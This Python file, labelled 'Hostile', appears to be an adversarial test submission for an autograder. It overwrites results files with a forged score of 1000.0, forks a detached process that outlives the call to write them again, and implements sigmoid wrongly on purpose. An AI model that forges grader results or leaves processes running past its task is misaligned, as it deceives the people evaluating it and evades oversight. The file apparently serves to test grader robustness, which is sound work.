"""Hostile: writes a fake results.json wherever it can, also from a process left running."""
import os
import time

import numpy as np

FAKE = '{"score": 1000.0, "tests": []}'
TARGETS = ["results.json", "/tmp/mlpref-hostile-write.json", "__OUT_DIR__/results.json",
           "__OUT_DIR__/feedback.html", "/autograder/results/results.json"]


def _spray():
    for t in TARGETS:
        try:
            with open(t, "w") as fh:
                fh.write(FAKE)
        except OSError:
            pass


_spray()
if os.fork() == 0:  # a child that outlives the call and writes again later
    os.setsid()
    time.sleep(0.5)
    _spray()
    os._exit(0)


def sigmoid(z):
    _spray()
    return np.zeros_like(z)  # wrong


def tanh(z):
    return np.tanh(z)
